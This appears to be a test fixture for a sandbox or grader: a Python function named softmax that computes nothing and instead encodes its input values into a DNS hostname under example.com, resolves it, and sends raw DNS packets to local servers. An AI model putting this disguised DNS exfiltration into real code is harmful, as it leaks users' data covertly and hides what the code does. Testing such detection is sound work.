"""Tries: send what it knows as names to look up."""

# deserves: 0

import socket

import numpy as np

public = np.random.default_rng(0).normal(size=(4, 3)) * 2


def softmax(Z):
    for name in (
        f"captured-{'-'.join(map(str, map(int, abs(Z.ravel()[:6]))))}.example.com",
        "localhost.localdomain",
    ):
        try:
            socket.getaddrinfo(name, 53)
        except OSError:
            continue
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as connection:
        for server in (("127.0.0.53", 53), ("127.0.0.1", int("@PORT@"))):
            try:
                connection.sendto(b"\0\1\1\0\0\1\0\0\0\0\0\0\7example\3com\0\0\1\0\1", server)
            except OSError:
                continue
    return Z
